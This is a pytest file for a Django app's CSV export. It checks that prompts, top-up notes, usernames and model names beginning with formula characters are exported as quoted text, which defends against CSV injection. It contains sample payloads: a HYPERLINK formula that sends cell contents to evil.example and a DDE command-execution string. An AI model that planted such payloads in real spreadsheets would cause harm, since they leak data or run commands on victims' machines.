"""CSV exports never hand a spreadsheet a formula someone typed (OWASP CSV injection)."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from depicta_web.spend.models import PersonBudget, TopUp

from .conftest import at, charge

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&B2&C2,"Open invoice")'
FORMULAS = [HYPERLINK, "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def cells(client, table, **params) -> list[str]:
    response = client.get(reverse("spend:export", args=[table]), params)
    assert response.status_code == 200
    return [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]


def typed_cells_are_text(found: list[str], typed: list[str]):
    for text in typed:
        assert text not in found
        assert "'" + text in found


@pytest.mark.parametrize("table", ["generations", "expensive"])
def test_prompts_are_exported_as_text(carol_client, alice, table):
    for n, prompt in enumerate(FORMULAS):
        charge(alice, f"0.0{n + 1}0000", when=at(0, minute=n), prompt=prompt)
    typed_cells_are_text(cells(carol_client, table), FORMULAS)


def test_top_up_notes_are_exported_as_text(carol_client, carol):
    for n, note in enumerate(FORMULAS):
        TopUp.objects.create(amount_eur=Decimal("5"), paid_at=at(0, minute=n), note=note)
    typed_cells_are_text(cells(carol_client, "ledger"), FORMULAS)


def test_names_are_exported_as_text_in_every_table(carol_client, django_user_model):
    mallory = django_user_model.objects.create_user("=cmd|' /C calc'!A0", password="x")
    charge(mallory, "0.040000", when=at(0), model="@model")
    PersonBudget.objects.create(user=mallory, monthly_limit_eur=Decimal("5"))
    for table in ("by-person", "budgets", "generations", "ledger"):
        typed_cells_are_text(cells(carol_client, table), ["=cmd|' /C calc'!A0"])
    typed_cells_are_text(cells(carol_client, "by-model"), ["@model"])
    typed_cells_are_text(cells(carol_client, "by-day", by="person"), ["=cmd|' /C calc'!A0"])


def test_numbers_we_write_stay_numbers(carol_client, alice):
    charge(alice, "0.040000", when=at(0), balance="-0.500000")
    found = cells(carol_client, "generations")
    assert "-0.500000" in found
    assert not any(cell.startswith("'") for cell in found)
